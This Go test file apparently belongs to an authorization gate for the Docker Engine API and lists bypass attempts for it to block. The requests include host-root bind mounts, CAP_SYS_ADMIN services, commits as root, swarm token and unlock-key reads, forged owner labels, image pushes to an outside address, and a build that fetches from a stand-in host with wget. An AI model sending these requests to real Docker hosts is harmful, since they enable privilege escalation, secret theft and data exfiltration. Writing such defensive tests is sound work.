package gate

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
)

// casesThings go on with D*: images, builds, plugins, networks, labels, registries.
func casesThings() []bypass {
	images := []string{get("/images/json")}
	tar := head + "Content-Type: application/x-tar\r\n"
	nearBuild := []string{buildOf("near", "FROM IMAGE\nLABEL a=b\n", "")}
	drop := []string{del("/images/near?force=1"), del("/images/harm?force=1"), del("/images/stolen?force=1"), del("/images/trusted:1?force=1")}
	build := func(what, dockerfile, query string, harm func(*scene) string) bypass {
		return bypass{id: "D14", what: what, steps: []string{buildOf("harm", dockerfile, query)}, harm: harm, near: nearBuild, tidy: drop}
	}
	return append([]bypass{
		{id: "D14", what: "commit of another's, with changes", steps: []string{post("/commit?container=victim&repo=stolen&changes=USER+root", "{}")}, harm: imageMade("stolen"), near: images, tidy: drop},
		{id: "D14", what: "an import from an address", steps: []string{post("/images/create?fromSrc=http://WITNESS/x.tar&repo=stolen", "")}, harm: fetched, near: images},
		{id: "D14", what: "an import under a trusted name", steps: []string{request("POST", "/images/create?fromSrc=-&repo=trusted&tag=1", tar, tarText("x", "y"))}, harm: imageMade("trusted:1"), near: images, tidy: drop},
		{id: "D14", what: "a trusted name for another image", steps: []string{post("/images/IMAGE/tag?repo=trusted&tag=1", "")}, harm: imageMade("trusted:1"), near: images, tidy: drop},
		build("a build from an address", "FROM scratch\n", "&remote=http://WITNESS/Dockerfile", fetched),
		build("a build in the host's network", "FROM IMAGE\nRUN wget -q -O- http://WITNESS/from-build; true\n", "&networkmode=host", fetched),
		build("a build with another cgroup", "FROM IMAGE\nRUN cat /proc/self/cgroup\n", "&cgroupparent=/elsewhere", told("/elsewhere/", "another cgroup")),
		build("a build with names of one's own", "FROM IMAGE\nRUN cat /etc/hosts\n", "&extrahosts=evil:10.9.8.7", told("10.9.8.7\\tevil", "a name in the build's network")),
		{id: "D15", what: "a graph for the builder without a frontend", near: []string{get("/_ping")}, play: func(s *scene) { s.solveRaw(s.upgraded("/grpc")) }, harm: fetched},
		{id: "D17", what: "a plugin of one's own", near: images, play: evilPlugin, harm: wroteNow, tidy: []string{post("/plugins/evil:latest/disable?force=1", ""), del("/plugins/evil:latest?force=1")}},
		{id: "D18", what: "a checkpoint's directory", only: "none", near: near(""), harm: wroteNow,
			steps: []string{post("/containers/MINEID/checkpoints", `{"CheckpointID":"owned","CheckpointDir":"HOSTDIR","Exit":false}`)}},
		{id: "D18", what: "a start from a directory of the host", only: "none", near: near(""), harm: wrote,
			steps: []string{creates("harm", "", "true"), post("/containers/harm/start?checkpoint=x&checkpoint-dir=HOSTDIR", "")}},
	}, append(casesOthers(), casesRegistry()...)...)
}

func casesOthers() []bypass {
	volumes := []string{del("/volumes/theirs?force=1"), del("/volumes/near?force=1"), del("/networks/theirs"), del("/networks/near")}
	theirs := post("/volumes/create", `{"Name":"theirs","Labels":{"belay.dev/owner":"uid:5002"}}`)
	gone := func(s *scene) string {
		if s.engineCall(get("/volumes/theirs")).status == 404 {
			return "another's volume is gone"
		}
		return ""
	}
	prune := func(what, filters string) bypass {
		return bypass{id: "D19", what: what, tidy: volumes, harm: gone, near: []string{post("/containers/prune", "")}, play: func(s *scene) {
			s.engineCall(theirs)
			q := filters
			if s.modern { // older engines take volumes with names without being told
				q = strings.TrimSuffix(`"all":["true"],`+q, ",")
			}
			s.send(post("/volumes/prune?filters="+url.QueryEscape("{"+q+"}"), ""))
		}}
	}
	labelled := func(s *scene) string {
		if s.inspect("harm").Config.Labels["belay.dev/owner"] == "uid:5002" {
			return "it is another's by its label"
		}
		return ""
	}
	forge := post("/containers/create?name=harm", `{"Image":"IMAGE","Cmd":["/x"],"Labels":{"belay.dev/owner":"uid:5002"},"HostConfig":{"NetworkMode":"none"}}`)
	return []bypass{
		{id: "D19", what: "another's container put into a network", tidy: append([]string{post("/networks/theirs/disconnect", `{"Container":"victim","Force":true}`)}, volumes...), near: []string{post("/networks/create", `{"Name":"near"}`)},
			play: func(s *scene) {
				s.engineCall(post("/networks/create", `{"Name":"theirs","Labels":{"belay.dev/owner":"uid:5001"}}`))
				s.engineCall(post("/networks/none/disconnect", `{"Container":"victim","Force":true}`))
				s.send(post("/networks/theirs/connect", `{"Container":"victim"}`))
			},
			harm: func(s *scene) string {
				if strings.Contains(s.engineCall(get("/containers/victim/json")).body, `"theirs"`) {
					return "another's container is in the network"
				}
				return ""
			}},
		prune("prune of what is another's", ""),
		prune("prune with filters of which one holds", `"label":["belay.dev/owner=uid:5002"]`),
		{id: "D20", what: "another's label", steps: []string{forge}, harm: labelled, near: near("", `"Labels":{"a":"b"}`)},
		{id: "D20", what: "a list by another's label", steps: []string{get("/containers/json?filters=%7B%22label%22:%5B%22belay.dev/owner=uid:5002%22%5D%7D")}, harm: told("VICTIMID", "another's container"),
			near: []string{get("/containers/json?filters=%7B%22label%22:%5B%22belay.dev/owner=uid:5001%22%5D%7D")}},
	}
}

func casesRegistry() []bypass {
	auth := "X-Registry-Auth: eyJ1c2VybmFtZSI6ImEiLCJwYXNzd29yZCI6ImIifQ==\r\n"
	images := []string{get("/images/json")}
	return []bypass{
		{id: "D21", what: "a push to an address", play: func(s *scene) {
			s.engineCall(post("/images/IMAGE/tag?repo=WITNESS/stolen&tag=1", ""))
			s.send(request("POST", "/images/WITNESS/stolen/push?tag=1", head+auth, ""))
		}, harm: fetched, near: images, tidy: []string{del("/images/WITNESS/stolen:1")}},
		{id: "D21", what: "a look at a registry", steps: []string{"GET /distribution/WITNESS/x:1/json HTTP/1.1\r\n" + head + auth + "\r\n"}, harm: fetched, near: images},
		{id: "D21", what: "rights of a plugin, asked of an address", steps: []string{get("/plugins/privileges?remote=WITNESS/x:1")}, harm: fetched, near: images},
		{id: "D21", what: "a search at an address", steps: []string{get("/images/search?term=WITNESS/x")}, harm: fetched, near: images},
	}
}

// casesSwarm are those that need a swarm.
func casesSwarm() []bypass {
	service := func(container, extra string) string {
		return post("/services/create", `{"Name":"evil","TaskTemplate":{"ContainerSpec":{"Image":"IMAGE",`+container+`}`+extra+`},"Mode":{"Replicated":{"Replicas":0}}}`)
	}
	made := func(s *scene) string {
		if a := s.engineCall(get("/services/evil")); a.status == 200 {
			return "there is such a service"
		}
		return ""
	}
	drop := []string{del("/services/evil"), del("/secrets/evil"), del("/configs/evil"), del("/secrets/theirs"), del("/configs/theirs")}
	config := post("/configs/create", `{"Name":"theirs","Data":"`+"aHVudGVyMi1vZi10aGUtdmljdGlt"+`"}`)
	images := []string{get("/images/json")}
	return []bypass{
		{id: "D16", what: "a service with a mount of the host", steps: []string{service(`"User":"1000","Mounts":[{"Type":"bind","Source":"/","Target":"/m"}]`, "")}, harm: made, near: images, tidy: drop},
		{id: "D16", what: "a service with capabilities", steps: []string{service(`"User":"1000","CapabilityAdd":["CAP_SYS_ADMIN"]`, "")}, harm: made, near: images, tidy: drop},
		{id: "D16", what: "a service as root", steps: []string{service(`"User":"0"`, "")}, harm: made, near: images, tidy: drop},
		{id: "D6", what: "a service in the host's network", steps: []string{service(`"User":"1000"`, `,"Networks":[{"Target":"host"}]`)}, harm: made, near: images, tidy: drop},
		{id: "D16", what: "another's configuration", play: func(s *scene) { s.engineCall(config); s.send(get("/configs/theirs")) }, harm: told("aHVudGVyMi1vZi10aGUtdmljdGlt", "another's configuration"), near: images, tidy: drop},
		{id: "B8", what: "the swarm's tokens", steps: []string{get("/swarm")}, harm: told("SWMTKN", "the tokens that let machines join"), near: images},
		{id: "B8", what: "the swarm's key", steps: []string{get("/swarm/unlockkey")}, harm: told("UnlockKey", "the key"), near: images},
		{id: "D16", what: "a node taken out of work", play: func(s *scene) { s.drainNode() }, harm: told("drained", "the node has no work"), near: images},
	}
}

// swarm makes the engine a swarm of one for the length of a test.
func (st *stage) swarm(t *testing.T) {
	t.Helper()
	s := st.scene(t, false, false)
	if a := s.engineCall(post("/swarm/init", `{"ListenAddr":"127.0.0.1:2377","AdvertiseAddr":"127.0.0.1"}`)); a.status != 200 {
		t.Fatalf("swarm init: %d %s", a.status, a.body)
	}
	t.Cleanup(func() { s.engineCall(post("/swarm/leave?force=1", "")) })
}

func imageMade(ref string) func(*scene) string {
	return func(s *scene) string {
		if s.engineCall(get("/images/"+ref+"/json")).status == 200 {
			return "there is an image " + ref
		}
		return ""
	}
}

func volumeMade(s *scene) string {
	if s.engineCall(get("/volumes/evil")).status == 200 {
		return "there is such a volume"
	}
	return ""
}

func networkMade(s *scene) string {
	if s.engineCall(get("/networks/evil")).status == 200 {
		return "there is such a network"
	}
	return ""
}

func execMade(s *scene) string {
	if a := s.answers[len(s.answers)-1]; a.status == 201 {
		return "a command is ready to run"
	}
	return ""
}

// passed tells whether the last answer was no refusal.
func (s *scene) passed() error {
	if a := s.answers[len(s.answers)-1]; a.status == 0 || a.status >= 400 {
		return fmt.Errorf("status %d: %s", a.status, a.body)
	}
	return nil
}
